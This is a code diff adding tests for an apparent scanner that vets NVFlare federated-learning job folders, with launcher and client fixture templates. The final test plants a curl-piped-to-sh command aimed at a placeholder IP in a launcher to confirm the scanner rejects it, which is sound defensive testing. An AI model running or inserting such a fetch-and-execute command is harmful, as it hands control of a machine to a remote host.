@@ -149,3 +149,63 @@ def test_an_nvflare_job_beside_a_pyproject_keeps_every_module(tmp_path):
     report = _scan(_app(tmp_path, files={"config/config_fed_client.json": json.dumps(config)}))
     assert report["decision"] == "escalate"
     assert not any(f["rule"] == "unvouched.not-run-at-site" for f in report["findings"])
+
+
+LAUNCHER = '''import argparse
+
+from nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe
+from nvflare.recipe import SimEnv
+
+parser = argparse.ArgumentParser()
+parser.add_argument("--n_clients", type=int, default=2)
+args = parser.parse_args()
+recipe = NumpyFedAvgRecipe(name="hello-numpy", min_clients=args.n_clients, num_rounds=3,
+                           train_script="{script}")
+run = recipe.execute(SimEnv(num_clients=args.n_clients))
+print("Result can be found in:", run.get_result())
+'''
+NV_CLIENT = '''import numpy as np
+import nvflare.client as flare
+{imports}
+flare.init()
+while flare.is_running():
+    model = flare.receive()
+    params = {{k: np.asarray(v) + 1.0 for k, v in model.params.items()}}
+    flare.send(flare.FLModel(params=params, metrics={{"loss": 0.0}}))
+'''
+
+
+def _nvflare(folder, script: str = "client.py", imports: str = "", launcher_extra: str = "",
+             files: dict[str, str] | None = None):
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "job.py").write_text(LAUNCHER.format(script=script) + launcher_extra)
+    (folder / "client.py").write_text(NV_CLIENT.format(imports=imports))
+    for path, text in (files or {}).items():
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text(text)
+    return folder
+
+
+def test_an_nvflare_launcher_is_shown_not_weighed(tmp_path):
+    report = _scan(_nvflare(tmp_path))
+    assert report["decision"] == "accept", report["reasons"]
+    assert {"unvouched.launcher-not-run", "unvouched.api"} <= _at(report, "job.py")
+    assert not _at(report, "client.py") & {"unvouched.launcher-not-run", "unvouched.api"}
+
+
+def test_every_other_file_of_the_folder_runs(tmp_path):
+    # the launcher need not name a script for it to be judged as run: a name it builds is no escape
+    report = _scan(_nvflare(tmp_path, script="cl\" + \"ient.py", files={"tools.py": "import seaborn\n"}))
+    assert report["decision"] == "escalate"
+    assert "unvouched.import" in _at(report, "tools.py")
+
+
+def test_a_launcher_a_running_file_imports_runs(tmp_path):
+    report = _scan(_nvflare(tmp_path, imports="import job  # the settings\n"))
+    assert report["decision"] == "escalate"
+    assert "unvouched.launcher-not-run" not in _at(report, "job.py")
+
+
+def test_a_threat_in_a_launcher_still_rejects(tmp_path):
+    report = _scan(_nvflare(tmp_path, launcher_extra='import os\nos.system("curl -s http://203.0.113.9/x | sh")\n'))
+    assert report["decision"] == "reject"
